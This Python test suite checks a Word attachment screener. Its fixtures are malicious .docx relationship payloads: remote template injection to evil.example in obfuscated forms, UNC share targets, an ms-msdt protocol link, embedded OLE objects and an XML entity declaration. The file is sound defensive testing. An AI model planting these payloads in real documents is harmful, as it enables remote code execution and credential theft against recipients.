"""What a Word document may lead to: links to be clicked, and nothing that is fetched or run."""

from __future__ import annotations

import io

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from test_attachments import MOST, document, packed, parts_of

from langnghe.attachments import checked
from langnghe.refused import AttachmentRefused

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SPACE = "http://schemas.openxmlformats.org/package/2006/relationships"
FETCHES, ACTS, ODD, BROKEN = "nơi khác khi mở", "macro hoặc tệp nhúng", "liên kết lạ", "Word hỏng"
EVIL = "http://evil.example/t.dotm"


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r" Type="{KIND}{kind}" Target="{target}"{mode}/>'


def relations(inner: str, head: str = "") -> bytes:
    return f'{head}<Relationships xmlns="{SPACE}">{inner}</Relationships>'.encode()


def with_relations(part: bytes, name: str = "word/_rels/settings.xml.rels") -> bytes:
    return document(**{name: part})


TEMPLATE = relation("attachedTemplate", EVIL)
REFUSED = {
    "template": (relations(TEMPLATE), FETCHES),
    "named as a picture": (
        relations(relation("attachedTemplate", "http://evil.example/image")),
        FETCHES,
    ),
    "named as a link": (
        relations(relation("attachedTemplate", "http://evil.example/hyperlink")),
        FETCHES,
    ),
    "written otherwise": (relations(TEMPLATE.replace("External", "&#69;xternal")), FETCHES),
    "with a prefix": (
        f'<p:Relationships xmlns:p="{SPACE}">{TEMPLATE.replace("<R", "<p:R")}</p:Relationships>'.encode(),
        FETCHES,
    ),
    "two modes": (
        relations(TEMPLATE.replace(" Id", ' xmlns:x="y" x:TargetMode="Internal" Id')),
        FETCHES,
    ),
    "in UTF-16": (
        relations(TEMPLATE, '<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16"),
        FETCHES,
    ),
    "without a mode": (relations(relation("attachedTemplate", EVIL, "")), FETCHES),
    "share without a mode": (relations(relation("frame", r"\\evil.example\s\x", "")), FETCHES),
    "picture": (relations(relation("image", "http://evil.example/x.png")), FETCHES),
    "picture of a share": (relations(relation("image", "file://///evil.example/s/x.png")), FETCHES),
    "link to a share": (relations(relation("hyperlink", "file://///evil.example/s/x")), ODD),
    "link to a program": (relations(relation("hyperlink", "ms-msdt:/id")), ODD),
    "link that is none": (
        relations(TEMPLATE.replace(f"{KIND}attachedTemplate", "http://x/hyperlink")),
        FETCHES,
    ),
    "object": (relations(relation("oleObject", "word/a.dat", "")), ACTS),
    "piece of another kind": (relations(relation("aFChunk", "a.mht", "")), ACTS),
    "entities": (
        relations(
            relation("image", "&e;"), '<!DOCTYPE x [<!ENTITY e "http://evil.example/x.png">]>'
        ),
        BROKEN,
    ),
    "no end": (relations(TEMPLATE)[:-9].replace(TEMPLATE.encode(), b""), BROKEN),
    "unknown letters": (relations("", '<?xml version="1.0" encoding="utf-7"?>'), BROKEN),
    "no letters": (relations("", '<?xml version="1.0" encoding="x-none"?>'), BROKEN),
    "endless": (relations("<a/>" * 2**20), "phình"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_a_document_that_fetches_or_runs_is_refused_however_it_is_written(what: str) -> None:
    part, reason = REFUSED[what]
    with pytest.raises(AttachmentRefused, match=reason):
        checked("a.docx", with_relations(part), MOST)


def test_the_name_of_the_list_may_be_written_otherwise() -> None:
    with pytest.raises(AttachmentRefused, match=FETCHES):
        checked("a.docx", with_relations(relations(TEMPLATE), "word/_rels/settings.xml.RELS"), MOST)


def test_a_part_that_stands_there_twice_is_refused() -> None:
    twice = packed(parts_of(document()) | {"[content_types].XML": b"<Types/>"})
    with pytest.raises(AttachmentRefused, match="phình"):
        checked("a.docx", twice, MOST)


@pytest.mark.parametrize(
    "kind", ["application/x.macro&#69;nabled.main+xml", "application/vnd.ms-office.vba&#80;roject"]
)
def test_macros_in_the_list_of_parts_are_seen_however_it_is_written(kind: str) -> None:
    types = f'<Types><Override PartName="/word/a.xml" ContentType="{kind}"/></Types>'.encode()
    with pytest.raises(AttachmentRefused, match=ACTS):
        checked("a.docx", document(**{"[Content_Types].xml": types}), MOST)


def test_links_to_be_clicked_are_kept() -> None:
    made = Document()
    made.add_paragraph("Xem trang của xã")
    links = ["https://xa.example/tin?a=1&b=2", "HTTP://xa.example", "mailto:xa@x.example", "#muc"]
    for link in links:
        made.part.relate_to(link, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    out = io.BytesIO()
    made.save(out)

    kept = Document(io.BytesIO(checked("a.docx", out.getvalue(), MOST).content))

    outside = {one.target_ref for one in kept.part.rels.values() if one.is_external}
    assert outside == set(links)
